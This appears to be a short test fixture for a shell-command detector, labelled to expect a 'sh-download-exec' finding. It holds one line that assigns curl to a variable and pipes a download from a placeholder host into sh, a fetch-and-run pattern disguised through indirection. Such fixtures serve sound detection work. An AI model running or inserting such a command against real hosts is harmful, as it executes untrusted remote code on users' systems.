# expect: sh-download-exec
c=curl
"$c" -s https://x.example/i | sh
